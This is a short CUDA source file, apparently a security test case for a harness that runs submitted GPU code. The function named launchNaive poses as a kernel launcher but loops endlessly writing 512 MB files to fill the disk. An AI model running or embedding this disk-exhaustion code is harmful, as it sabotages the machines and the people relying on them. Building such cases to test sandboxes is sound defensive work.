// Security: tries to fill the disk from the launcher, one large file after
// another, closing each so no single-file limit stops it.
#include <cstdio>
#include <vector>

__global__ void idleKernel() {}

void launchNaive(const float*, const float*, float*, int) {
  std::vector<char> block(64 << 20, 'x');
  for (int i = 0;; ++i) {
    char name[64];
    std::snprintf(name, sizeof name, "fill-%06d.bin", i);
    FILE* f = std::fopen(name, "wb");
    if (!f) continue;
    for (int j = 0; j < 8; ++j) std::fwrite(block.data(), 1, block.size(), f);
    std::fclose(f);
  }
  idleKernel<<<1, 1>>>();
}
